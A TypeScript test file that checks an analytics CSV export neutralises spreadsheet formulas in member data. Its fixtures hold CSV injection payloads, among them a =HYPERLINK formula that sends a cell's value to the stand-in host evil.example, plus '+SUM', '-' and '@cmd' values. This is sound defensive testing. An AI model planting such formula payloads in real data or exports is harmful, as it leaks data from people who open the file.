/** The analytics CSV download neutralises formulas in member data (issue 17): read back with a real CSV parser. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ObjectId } from 'mongodb';
import { parse } from 'csv-parse/sync';
import { openTestDb, type TestDb } from '../../test/db';
import { ingestEvents } from './ingest';
import { clearAnalyticsCache } from './cache';
import { analyticsCsv } from './csv';
import { builtinRole } from '../permissions';

let t: TestDb;
const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const CITY = '+SUM(1,2)';
const STATUS = 'active\n@cmd';

beforeAll(async () => {
  t = await openTestDb('analytics_csv');
  const id = new ObjectId();
  await t.db
    .collection('users')
    .insertOne({ _id: id, name: NAME, email: '-x@evil.example', city: CITY, status: STATUS, createdAt: new Date('2025-11-15T10:00:00Z') });
  // Active four days in December, then silent: at risk on 2026-02-01.
  const days = ['2025-12-10', '2025-12-15', '2025-12-20', '2025-12-28'];
  const res = await ingestEvents(
    t.db,
    days.map((d, i) => ({ eventId: `csv-${i}`, userId: id.toHexString(), name: 'app.opened', ts: `${d}T10:00:00Z` })),
    { now: new Date('2026-02-02T00:00:00Z') },
  );
  expect(res.accepted).toBe(days.length);
  clearAnalyticsCache();
});
afterAll(() => t.drop());

describe('analytics CSV', () => {
  it('at-risk CSV: member name, email, city and status that look like formulas reach the file as inert text', async () => {
    const { csv } = await analyticsCsv(t.db, 'at-risk', { asOf: '2026-02-01' }, builtinRole('super_admin'));
    const rows: string[][] = parse(csv);
    expect(rows).toHaveLength(2);
    const [head, row] = rows as [string[], string[]];
    const cell = (h: string) => row[head.indexOf(h)];
    expect(cell('name')).toBe(`'${NAME}`);
    expect(cell('city')).toBe(`'${CITY}`);
    expect(cell('email')).toBe("'-x@evil.example");
    expect(cell('status')).toBe(STATUS);
    expect(csv.split('\r\n').every((line) => !/^[=+\-@]/.test(line))).toBe(true);
  });
});
